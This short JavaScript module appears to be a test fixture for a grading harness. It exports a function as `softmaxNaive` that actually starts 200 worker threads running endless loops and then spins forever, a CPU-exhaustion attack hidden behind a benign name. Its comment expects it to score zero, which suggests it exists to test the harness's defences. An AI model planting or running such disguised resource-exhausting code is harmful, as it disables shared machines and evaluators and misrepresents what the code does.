// At most 0 points. As many threads as it can start, each of them busy.
const { Worker } = process.getBuiltinModule('worker_threads');
const attack = () => {
  for (let i = 0; i < 200; i++) new Worker('for (;;);', { eval: true });
  for (;;);
};

export { attack as softmaxNaive };
